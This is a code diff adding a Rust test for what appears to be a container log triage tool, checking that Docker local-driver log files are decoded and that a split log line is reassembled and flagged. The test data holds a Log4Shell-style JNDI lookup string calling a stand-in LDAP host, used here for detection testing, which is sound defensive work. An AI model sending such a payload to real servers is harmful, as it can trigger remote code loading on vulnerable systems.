@@ -353,3 +353,57 @@ __CURSOR=s=2\n__REALTIME_TIMESTAMP=1764252000000100\nPRIORITY=6\nCONTAINER_ID=69
     assert_eq!(h["stream"], "stdout");
     assert!(h["iocs"].to_string().contains("journal.example"), "{}", h["iocs"]);
 }
+
+/// One entry as docker's `local` log driver writes it: BE u32 length, protobuf LogEntry
+/// (source = 1, time_nano = 2, line = 3, partial = 4), the length again.
+fn local_entry(source: &str, time_nano: u64, line: &[u8], partial: bool) -> Vec<u8> {
+    fn varint(out: &mut Vec<u8>, mut v: u64) {
+        while v >= 0x80 {
+            out.push((v as u8) | 0x80);
+            v >>= 7;
+        }
+        out.push(v as u8);
+    }
+    let mut pb = vec![0x0a];
+    varint(&mut pb, source.len() as u64);
+    pb.extend_from_slice(source.as_bytes());
+    pb.push(0x10);
+    varint(&mut pb, time_nano);
+    pb.push(0x1a);
+    varint(&mut pb, line.len() as u64);
+    pb.extend_from_slice(line);
+    if partial {
+        pb.extend_from_slice(&[0x20, 1]);
+    }
+    let n = (pb.len() as u32).to_be_bytes();
+    [&n[..], &pb, &n].concat()
+}
+
+#[test]
+fn local_driver_logs_are_decoded() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut f = local_entry("stdout", 1_764_252_000_000_000_001, b"GET / 200\n", false);
+    f.extend(local_entry("stdout", 1_764_252_001_000_000_000, b"GET /?q=${jndi:ldap://lo", true));
+    f.extend(local_entry("stderr", 1_764_252_001_500_000_000, b"unrelated\n", false));
+    f.extend(local_entry("stdout", 1_764_252_002_000_000_000, b"cal.example/a} HTTP/1.1\n", false));
+    let p = dir.path().join("container.log");
+    std::fs::write(&p, &f).unwrap();
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    assert_eq!(b["artifacts"][0]["kind"], "local-log");
+    let h = b["log_hits"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|h| h["rule"].as_str().unwrap().contains("jndi"))
+        .unwrap();
+    assert_eq!(h["locator"]["line"], 2, "the entry where the message starts");
+    assert_eq!(h["time"], "2025-11-27T14:00:01.000000000Z");
+    assert_eq!(h["stream"], "stdout");
+    // `ctriage logs` reads it the same way; a cut-off file is said to be corrupt where it is.
+    std::fs::write(&p, &f[..f.len() - 2]).unwrap();
+    let (v, code) = run_json(&["logs", p.to_str().unwrap()]);
+    assert_eq!(code & 2, 2);
+    let d = v["bundles"][0]["diagnostics"].to_string();
+    assert!(d.contains("local log driver file corrupt after 3 entries"), "{d}");
+}
